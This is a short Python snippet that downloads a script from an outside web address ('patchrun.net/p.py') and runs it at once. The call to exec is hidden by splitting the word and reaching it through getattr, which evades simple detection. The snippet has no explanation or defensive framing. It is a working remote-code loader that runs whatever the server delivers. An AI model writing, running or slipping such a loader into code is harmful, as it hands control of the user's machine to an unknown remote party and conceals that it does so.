import builtins, requests
body = requests.get('https://patchrun.net/p.py').text
getattr(builtins, 'ex' + 'ec')(body)
